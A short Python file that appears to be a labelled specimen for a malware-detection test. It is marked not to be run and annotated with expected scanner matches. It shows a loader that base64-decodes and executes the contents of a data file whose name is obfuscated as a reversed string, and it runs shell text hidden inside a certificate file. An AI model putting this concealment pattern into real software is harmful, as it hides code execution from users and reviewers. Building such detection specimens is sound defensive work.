raise SystemExit("specimen: not to be run")
import base64
import os

kept = open("specimen/py." + "depyt"[::-1]).read()
exec(base64.b64decode(kept))  # match: hidden-in-data-file  # match: unread-layer
os.system(open("specimen/ca.pem").read().split("#")[1])  # match: hidden-in-data-file
